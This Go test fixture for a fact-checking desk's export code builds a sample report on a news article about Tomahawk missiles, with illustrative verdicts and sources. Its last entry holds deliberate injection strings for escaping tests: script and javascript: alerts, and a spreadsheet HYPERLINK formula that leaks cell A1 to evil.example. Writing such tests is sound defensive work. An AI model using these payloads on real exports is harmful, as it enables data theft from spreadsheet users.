package export

import (
	"strings"
	"time"

	"github.com/factcheckdesk/factcheck/rating"
)

// Fixture data. The article sentences come from
// /work/shared/examples/tomahawk-article.txt; the reviews, sources and
// quotes are illustrative test data, not real fact-checks.

func ts(s string) *time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return &t
}

// fixtureBody is the article body. The last paragraph carries deliberately
// hostile text (HTML, Markdown link, formula) to test escaping.
var fixtureBody = strings.Join([]string{
	"United States President Donald Trump and Russian President Vladimir Putin have agreed to hold another summit to discuss ending the war in Ukraine, after a high-stakes summit in Alaska in August failed to yield concrete results.",
	"“I just got off the phone with President Donald Trump. Preparations for the USA-Russia peace summit are under way. Hungary is the island of PEACE!” Hungarian Prime Minister Viktor Orbán said on X late Thursday.",
	"According to US defence information, Tomahawk missiles were developed in the 1970s. They are long-range cruise missiles which are launched from ships or submarines and are generally used for long-distance attacks.",
	"They fly at supersonic speed at low altitudes – about 30 metres (100ft) off the ground – and have a range of more than 1,250-2,500km (780-1,550 miles). They usually carry conventional warheads but can also carry nuclear ones.",
	"So far, the US has launched more than 2,300 Tomahawks from its ships and submarines during operations in Syria and Libya, among others.",
	"Kyiv has been particularly eager to obtain these weapons due to their ability to strike long-range targets. Moscow is about 800km (500 miles) from Kyiv.",
	"In 2024, the US and Russia traded goods and services worth about $5.2bn – 25.8 percent less than in 2023, according to data from the office of the US Trade Representative.",
	"A reader's comment quoted under the article read: <script>alert(\"pwned\")</script> [click here](javascript:alert(1)) # not a heading | *not bold* — see the “Engels-2” base.",
}, "\n\n")

// span returns the byte offsets of text in fixtureBody.
func span(text string) (int, int) {
	i := strings.Index(fixtureBody, text)
	if i < 0 {
		panic("fixture: text not in body: " + text)
	}
	return i, i + len(text)
}

func stmt(id uint, pos int, text string) Statement {
	start, end := span(text)
	return Statement{ID: id, Position: pos, Start: start, End: end, Text: text, Checkable: true, Score: 0.8, Reasons: []string{"number"}, Type: "claim", Verdict: string(rating.Unreviewed)}
}

// fixture returns a realistic report covering every verdict.
func fixture() Report {
	s1 := stmt(101, 1, "Hungary is the island of PEACE!")
	s1.Checkable, s1.Score, s1.Reasons, s1.Type = false, 0.1, []string{"opinion"}, "quote"
	s1.Verdict = string(rating.NotCheckable)
	s1.Note = "Opinion in a quotation; nothing to verify."
	// Stored times carry nanoseconds; CSV shows them to the second.
	s1.ReviewedBy, s1.ReviewedAt = "Zoë Ahmed", ts("2025-10-18T09:12:00.123456789Z")

	s2 := stmt(102, 2, "According to US defence information, Tomahawk missiles were developed in the 1970s.")
	s2.Verdict = string(rating.Verified)
	s2.Reasons = []string{"date", "attribution"}
	s2.Sources = []Source{{
		URL: "https://www.navy.mil/Resources/Fact-Files/Display-FactFiles/Article/2169229/tomahawk-cruise-missile/", Title: "Tomahawk Cruise Missile", Publisher: "U.S. Navy",
		Quote: "Date Deployed: 1983", AccessedAt: ts("2025-10-18T09:30:00Z"),
	}}
	s2.ReviewedBy, s2.ReviewedAt = "Zoë Ahmed", ts("2025-10-18T09:40:00Z")

	s3 := stmt(103, 3, "They fly at supersonic speed at low altitudes – about 30 metres (100ft) off the ground – and have a range of more than 1,250-2,500km (780-1,550 miles).")
	s3.Verdict = string(rating.Corrected)
	s3.Reasons = []string{"quantity", "comparison"}
	s3.Correction = "They fly at subsonic speed at low altitudes – about 30 metres (100ft) off the ground – and have a range of more than 1,250-2,500km (780-1,550 miles)."
	s3.Note = "Tomahawks are subsonic (about 880 km/h).\nThe range figures are right."
	s3.Sources = []Source{
		{URL: "https://www.navy.mil/Resources/Fact-Files/Display-FactFiles/Article/2169229/tomahawk-cruise-missile/", Title: "Tomahawk Cruise Missile", Publisher: "U.S. Navy", Quote: "Speed: Subsonic – about 550 mph (880 km/h)", AccessedAt: ts("2025-10-18T10:05:00Z")},
		{URL: "https://missilethreat.csis.org/missile/tomahawk/", Title: "Tomahawk | Missile Threat", Publisher: "CSIS", Quote: "The Tomahawk is a subsonic, long-range cruise missile.", AccessedAt: ts("2025-10-18T10:07:00Z")},
	}
	s3.ReviewedBy, s3.ReviewedAt = "Jan Kowalski", ts("2025-10-18T10:20:00Z")

	s4 := stmt(104, 4, "So far, the US has launched more than 2,300 Tomahawks from its ships and submarines during operations in Syria and Libya, among others.")
	s4.Verdict = string(rating.InProgress)
	s4.Note = "Waiting for the Navy press office."

	s5 := stmt(105, 5, "Moscow is about 800km (500 miles) from Kyiv.")
	s5.Verdict = string(rating.Corrected)
	s5.Correction = "Moscow is about 750km (470 miles) from Kyiv."
	s5.Note = "Great-circle distance is about 755 km."
	s5.ReviewedBy, s5.ReviewedAt = "Jan Kowalski", ts("2025-10-18T11:00:00Z")

	s6 := stmt(106, 6, "In 2024, the US and Russia traded goods and services worth about $5.2bn – 25.8 percent less than in 2023, according to data from the office of the US Trade Representative.")
	s6.Verdict = string(rating.Verified)
	s6.Reasons = []string{"money", "percentage", "date"}
	s6.Sources = []Source{{
		URL: "https://ustr.gov/countries-regions/europe-middle-east/russia-and-eurasia/russia", Title: "Russia", Publisher: "Office of the United States Trade Representative",
		Quote: "U.S. goods and services trade with Russia totaled an estimated $5.2 billion in 2024. [illustrative]", AccessedAt: ts("2025-10-18T11:30:00Z"),
	}}
	s6.ReviewedBy, s6.ReviewedAt = "Zoë Ahmed", ts("2025-10-18T11:45:00Z")

	s7 := stmt(107, 7, "A reader's comment quoted under the article read: <script>alert(\"pwned\")</script> [click here](javascript:alert(1)) # not a heading | *not bold* — see the “Engels-2” base.")
	s7.Verdict = string(rating.Disputed)
	s7.Note = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for sources")`
	s7.Sources = []Source{{URL: "javascript:alert(2)", Title: "<b>Bold</b> [link](http://evil.example)", Publisher: "@evil", Quote: "- item\n# heading\n1. list", AccessedAt: ts("2025-10-18T12:00:00Z")}}
	s7.ReviewedBy, s7.ReviewedAt = "+Mallory", ts("2025-10-18T12:10:00Z")

	s8 := stmt(108, 8, "United States President Donald Trump and Russian President Vladimir Putin have agreed to hold another summit to discuss ending the war in Ukraine, after a high-stakes summit in Alaska in August failed to yield concrete results.")

	stmts := []Statement{s8, s1, s2, s3, s4, s5, s6, s7} // document order
	for i := range stmts {
		stmts[i].Position = i + 1
	}
	return Report{
		Article: Article{
			ID:                   42,
			Title:                "Trump–Putin summit: Will the US send Tomahawk missiles to Ukraine?",
			URL:                  "https://www.aljazeera.com/news/2025/10/17/will-the-us-send-tomahawk-missiles-to-ukraine",
			Author:               "Al Jazeera Staff",
			AuthorIsOrganization: true,
			PublishedAt:          ts("2025-10-17T08:00:00Z"),
			CreatedAt:            *ts("2025-10-17T15:04:05Z"),
			Body:                 fixtureBody,
		},
		Statements:   stmts,
		GeneratedAt:  *ts("2025-10-20T09:30:00Z"),
		Organization: "Factcheck Desk",
		BaseURL:      "https://desk.example.org",
	}
}
